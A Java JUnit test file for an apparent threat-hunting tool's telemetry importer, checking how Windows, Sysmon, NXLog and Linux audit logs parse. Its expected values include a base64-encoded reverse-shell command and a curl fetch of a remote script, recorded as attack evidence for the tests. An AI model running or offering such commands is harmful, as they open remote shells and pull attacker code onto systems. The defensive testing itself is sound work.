package trailhound.telemetry;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Predicate;
import org.junit.jupiter.api.Test;
import trailhound.schema.Event;
import trailhound.schema.Field;

/**
 * The real-world inputs of ../shared/datasets/cases/ (see its README.md): each case's right values,
 * as the README gives them. Each kind is also tested with a small input written in its own test.
 */
class CasesTest {
    private static Path file(String caseFolder, String name) {
        return Datasets.root().resolve("cases").resolve(caseFolder).resolve(name);
    }

    private record Read(ImportReport report, List<Event> events) {
        Map<String, Long> kinds() {
            Map<String, Long> kinds = new TreeMap<>();
            events.forEach(e -> kinds.merge(e.type() + "/" + e.operation(), 1L, Long::sum));
            return kinds;
        }

        Event only(Predicate<Event> which) {
            List<Event> found = events.stream().filter(which).toList();
            assertEquals(1, found.size(), "one such event: " + found);
            return found.getFirst();
        }
    }

    private static Read read(Path file, String endpoint) {
        List<Event> events = new ArrayList<>();
        ImportReport report = TelemetryImport.read(file, endpoint, events::add);
        return new Read(report, events);
    }

    private static Predicate<Event> eventId(String id) {
        return e -> id.equals(e.get(Field.EVENT_ID));
    }

    @Test
    void case02_localizedExport_fieldsFromSystemAndEventDataNeverRenderingInfo() {
        for (String language : List.of("de-DE", "en-US")) {
            Read r = read(file("02-localized-renderinginfo-channel", "security-" + language + "-eventviewer-export.xml"), null);
            Event logon = r.only(eventId("4624"));
            assertEquals("security/logon", logon.type() + "/" + logon.operation(), language);
            assertEquals("Security", logon.get(Field.CHANNEL), language);
            assertEquals("CORP\\mmuster", logon.get(Field.TARGET_USER));
            assertEquals("3", logon.get(Field.LOGON_TYPE));
            assertEquals("203.0.113.66", logon.get(Field.LOGON_SOURCE_IP));
            assertEquals("2025-10-24T09:10:00.500Z", Event.formatTime(logon.ts()));
            Event created = r.only(eventId("4688"));
            assertEquals("6700", created.get(Field.PID));
            assertEquals("2452", created.get(Field.PPID));
            assertEquals("C:\\Windows\\System32\\cmd.exe", created.get(Field.PROCESS_PATH));
            assertEquals("cmd.exe /c whoami /all", created.get(Field.COMMAND_LINE));
            assertEquals("C:\\Windows\\explorer.exe", created.get(Field.PARENT_PATH));
            assertEquals("CORP\\mmuster", created.get(Field.USER));
        }
        Read sysmon = read(file("02-localized-renderinginfo-channel", "sysmon-en-US-empty-rendered-channel.xml"), null);
        assertEquals(Map.of("process/start", 1L), sysmon.kinds());
    }

    @Test
    void case04_sysmonForLinux_mappedLikeSysmon_cutRecordKeptAndReported_syslogFormToo() {
        for (String name : List.of("linux-sysmon-events.xml", "linux-sysmon-syslog.log")) {
            Read r = read(file("04-sysmon-for-linux", name), null);
            Map<String, Long> byId = new TreeMap<>();
            r.events().forEach(e -> byId.merge(e.get(Field.EVENT_ID), 1L, Long::sum));
            assertEquals(Map.of("5", 50L, "1", 31L, "3", 6L, "11", 4L, "23", 2L), byId, name);
            assertEquals(Map.of("process/end", 50L, "process/start", 31L, "network/connect", 6L, "file/create", 4L,
                    "file/delete", 2L), r.kinds(), name);
            Event shell = r.only(e -> e.get(Field.COMMAND_LINE) != null && e.get(Field.COMMAND_LINE).contains("YmFzaCAtaSA"));
            assertEquals("process/start", shell.type() + "/" + shell.operation());
            assertEquals("/bin/bash", shell.get(Field.PROCESS_PATH));
            assertEquals("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}",
                    shell.get(Field.COMMAND_LINE));
            assertEquals("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java", shell.get(Field.PARENT_PATH));
            assertEquals("tomcat", shell.get(Field.USER));
            assertEquals(List.of("lnx-web-01"), r.report().endpoints());
            assertEquals("linux", r.report().endpointOs().get("lnx-web-01"), name);
            assertTrue(r.report().warnings().stream().anyMatch(w -> w.contains("cut short (at line 8)")), r.report().warnings().toString());
        }
    }

    @Test
    void case05_oneBadEventCostsOnlyItself() {
        for (String name : List.of("wevtutil-200-events-line50-truncated.xml", "wevtutil-200-events-line50-raw-ampersand.xml")) {
            Read r = read(file("05-xml-one-bad-event-drops-rest", name), null);
            assertEquals(199, r.events().size(), name);
            assertEquals(List.of(50L), r.report().firstMalformedLines(), name);
            assertEquals(200, r.report().recordsRead(), name);
        }
    }

    @Test
    void case12_userDataSubject() {
        Read r = read(file("12-security-1102-userdata-user-missing", "security-1102-log-cleared.xml"), null);
        Event cleared = r.only(eventId("1102"));
        assertEquals("CORP\\analyst", cleared.get(Field.USER));
    }

    @Test
    void case03_nestedJsonExports_winlogbeatAndSentinel() {
        Read beat = read(file("03-nested-json-exports-all-malformed", "winlogbeat-ndjson.json"), null);
        assertEquals(0, beat.report().malformed(), beat.report().toString());
        assertEquals(Map.of("process/start", 2L), beat.kinds());
        Event second = beat.events().get(1);
        assertEquals("C:\\Windows\\System32\\cmd.exe", second.get(Field.PROCESS_PATH));
        assertEquals("cmd.exe /c whoami", second.get(Field.COMMAND_LINE));
        assertEquals("ws-hunt-03", second.get(Field.ENDPOINT));
        assertEquals("2020-10-27T20:00:15.100Z", Event.formatTime(second.ts()));
        assertEquals("9f32b55f-7c4e-5f98-5803-000000000500", second.get(Field.PARENT_KEY));
        Event first = beat.events().get(0); // ECS: the process values moved to process.*, user.*
        assertEquals("C:\\Windows\\System32\\notepad.exe", first.get(Field.PROCESS_PATH));
        assertEquals("9f32b55f-7c4e-5f98-5803-000000000500", first.get(Field.PROCESS_KEY));
        assertEquals("3616", first.get(Field.PID));
        assertEquals("4212", first.get(Field.PPID));
        assertEquals("CORP\\analyst", first.get(Field.USER));
        assertEquals("b6d237154f2e528f0b503b58b025862d66b02b73", first.get(Field.HASH_SHA1));

        Read sentinel = read(file("03-nested-json-exports-all-malformed", "sentinel-windowsevent-sysmon.json"), null);
        assertEquals(0, sentinel.report().malformed(), sentinel.report().toString());
        // the README counts three network/connect; one of the three has Initiated=false, which DESIGN.md's event
        // model maps to network/accept (an inbound connection): three network events either way
        assertEquals(Map.of("network/connect", 2L, "network/accept", 1L, "dns/query", 1L, "process/start", 1L), sentinel.kinds());
        assertEquals(List.of("ws-hunt-04"), sentinel.report().endpoints());
    }

    @Test
    void case07_nxlogEventTimeOnly_readAsUtcWithACountingWarning_orInTheZoneGiven() {
        Path nxlog = file("07-nxlog-json-eventtime-only", "nxlog-to_json-ws-hunt-07.json");
        Read r = read(nxlog, null);
        assertEquals(533, r.events().size());
        assertEquals(0, r.report().malformed());
        Event first = r.events().getFirst();
        assertEquals("security/event_5158", first.type() + "/" + first.operation());
        assertEquals("\\device\\harddiskvolume2\\windows\\system32\\svchost.exe", first.get(Field.PROCESS_PATH));
        assertEquals("2019-12-04T23:41:56.000Z", Event.formatTime(first.ts()));
        assertTrue(r.report().warnings().contains("20 events have only a local time without a zone (NXLog's EventTime): read as"
                + " UTC; ingest with --timezone ZONE (e.g. Europe/Berlin) if the host's clock was set otherwise"),
                r.report().warnings().toString());

        List<Event> berlin = new ArrayList<>();
        ImportReport zoned = TelemetryImport.read(nxlog, nxlog.getFileName().toString(), null, java.time.ZoneId.of("Europe/Berlin"),
                berlin::add, 1);
        assertEquals("2019-12-04T22:41:56.000Z", Event.formatTime(berlin.getFirst().ts()), "CET is UTC+1 in December");
        assertTrue(zoned.warnings().contains("20 events have only a local time without a zone (NXLog's EventTime): read in"
                + " Europe/Berlin"), zoned.warnings().toString());
    }

    @Test
    void case10_ausearchOutputAndAPartialFirstLine() {
        Read ausearch = read(file("10-audit-detection-first-line-only", "ausearch-k-output.txt"), "srv-10");
        assertEquals(TelemetryFormat.LINUX_AUDIT, ausearch.report().format());
        assertEquals(17, ausearch.events().size(), ausearch.kinds().toString());
        assertEquals(5, ausearch.kinds().get("process/start"));
        assertEquals(2, ausearch.kinds().get("network/connect"));
        assertEquals(0, ausearch.report().malformed(), "separator lines are skipped, not malformed");
        assertEquals(List.of("srv-10"), ausearch.report().endpoints());

        Read partial = read(file("10-audit-detection-first-line-only", "audit-partial-first-line.log"), "srv-10");
        assertEquals(TelemetryFormat.LINUX_AUDIT, partial.report().format());
        assertEquals(List.of(1L), partial.report().firstMalformedLines());
        assertEquals(71, partial.report().recordsRead() - 1, "71 records after the partial line");
    }

    @Test
    void case11_lateAuditRecordsJoinTheirEvent() {
        Read r = read(file("11-audit-late-records-replace-event", "audit-aggregated-interleaved.log"), null);
        Event curl = r.only(e -> "web01".equals(e.get(Field.ENDPOINT)) && "process".equals(e.type()));
        assertEquals("process/start", curl.type() + "/" + curl.operation());
        assertEquals("5001", curl.get(Field.PID));
        assertEquals("1", curl.get(Field.PPID));
        assertEquals("/usr/bin/curl", curl.get(Field.PROCESS_PATH));
        assertEquals("curl -s http://203.0.113.9/x.sh", curl.get(Field.COMMAND_LINE));
        assertEquals("/root", curl.get(Field.CWD));
        assertEquals("2023-11-14T22:30:00.100Z", Event.formatTime(curl.ts()));
        assertEquals(r.report().eventsEmitted(), r.report().distinctEvents(), "no event twice");
    }

    @Test
    void case08_zipEntriesInAnyOrder_eachRecognisedOnItsOwn() {
        for (String name : List.of("json-first-then-evtx.zip", "evtx-first-then-json.zip", "yaml-first-then-json.zip")) {
            Path zip = file("08-zip-first-entry-decides", name);
            assertEquals(java.util.Optional.of(name.startsWith("evtx") ? TelemetryFormat.WINDOWS_EVTX : TelemetryFormat.WINDOWS_JSON_LINES),
                    TelemetryImport.detect(zip), name + ": the first entry that is telemetry");
            Read r = read(zip, null);
            assertEquals(184, r.report().recordsRead(), name);
            assertEquals(175, r.report().distinctEvents(), name + ": 9 duplicate lines");
            assertEquals(List.of("ws-hunt-08"), r.report().endpoints(), name);
            assertTrue(r.report().warnings().stream().noneMatch(w -> w.contains(".evtx")),
                    "the .evtx entry is read (a bare header: no records): " + r.report().warnings());
            if (name.startsWith("yaml")) {
                assertTrue(r.report().warnings().stream().anyMatch(w -> w.startsWith("metadata.yaml skipped: not a telemetry format")),
                        r.report().warnings().toString());
            }
        }
    }
}
